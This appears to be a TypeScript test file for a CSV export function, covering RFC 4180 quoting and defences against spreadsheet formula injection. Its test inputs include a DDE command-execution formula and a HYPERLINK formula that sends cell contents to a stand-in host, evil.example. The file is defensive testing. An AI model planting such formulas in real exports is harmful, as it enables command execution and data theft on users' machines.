import fc from 'fast-check';
import type { Cell } from './columns';
import { csvOf } from './usage-csv';

const written = (
  columns: readonly string[],
  rows: readonly Readonly<Record<string, Cell>>[],
): Promise<string> =>
  csvOf(
    columns.map((name) => ({ name, show: (cell: Cell) => cell })),
    rows,
  );

/** RFC 4180, to the letter: fields are quoted or have neither quotes, commas nor line ends. */
function parsed(text: string): readonly (readonly string[])[] {
  const FIELD = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  const records: string[][] = [[]];
  while (FIELD.lastIndex < text.length) {
    const [, quoted, plain = '', end] = FIELD.exec(text) ?? [];
    if (end === undefined) throw new Error('Not RFC 4180');
    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') records.push([]);
  }
  expect(records.pop()).toEqual([]);
  return records;
}

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', ' ', "'", 'a', '1', 'é'] as const;

const cell = async (value: string | number | null): Promise<string> => {
  const text = await written(['x'], [{ x: value }]);
  return text.slice('x\r\n'.length, -'\r\n'.length);
};

describe('CSV', () => {
  it('is a head and a line for each row, in the order of the columns', async () => {
    const rows = [
      { requests: 2, day: '2026-11-21', key_name: null },
      { requests: 1, day: '2026-11-22', key_name: 'b' },
    ];
    expect(await written(['day', 'key_name', 'requests'], rows)).toBe(
      'day,key_name,requests\r\n2026-11-21,,2\r\n2026-11-22,b,1\r\n',
    );
    expect(await written(['day'], [])).toBe('day\r\n');
  });

  it.each<[string | number | null, string]>([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['Zürich 東京', '"Zürich 東京"'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [-1.5, '-1.5'],
    [0.000001, '0.000001'],
    [1234567.891234, '1234567.891234'],
    [9007199254740991, '9007199254740991'],
  ])('writes %j as %j', async (value, text) => {
    expect(await cell(value)).toBe(text);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\tx',
    '\rx',
    '\nx',
    ' =1+1',
    '   -1',
    '\u00a0=1',
    '\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
  ])('never begins a text with what calculates: %j', async (text) => {
    expect(parsed(`x\r\n${await cell(text)}\r\n`)).toEqual([['x'], [`'${text}`]]);
  });

  it.each(['a=b', "'=1", '2026-11-21', '/api/query', '_x', '.x', ' x'])('leaves %j alone', async (text) => {
    expect(parsed(`x\r\n${await cell(text)}\r\n`)).toEqual([['x'], [text]]);
  });

  it('is read by others as what it was, but for that apostrophe', async () => {
    const value = fc.oneof(fc.string({ unit: fc.constantFrom(...SIGNS) }), fc.string());
    const rows = fc.array(fc.record({ x: value, y: value }), { maxLength: 20 });
    await fc.assert(
      fc.asyncProperty(rows, async (given) => {
        const [head, ...lines] = parsed(await written(['x', 'y'], given));
        expect(head).toEqual(['x', 'y']);
        expect(lines).toHaveLength(given.length);
        for (const [at, { x, y }] of given.entries()) {
          const shown = lines[at] ?? [];
          for (const [index, text] of [x, y].entries()) {
            expect([text, `'${text}`]).toContain(shown[index]);
            expect(shown[index]).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@])/);
          }
        }
      }),
    );
  });

  it('has all lines when there are many, and lets others have their turn', async () => {
    let turns = 0;
    let over = false;
    const count = (): void => {
      turns += 1;
      if (!over) setImmediate(count);
    };
    setImmediate(count);
    const text = await written(
      ['x'],
      Array.from({ length: 5001 }, (_, x) => ({ x })),
    );
    over = true;
    expect(parsed(text).flat()).toEqual(['x', ...Array.from({ length: 5001 }, (_, x) => String(x))]);
    expect(turns).toBeGreaterThan(2);
  });
});
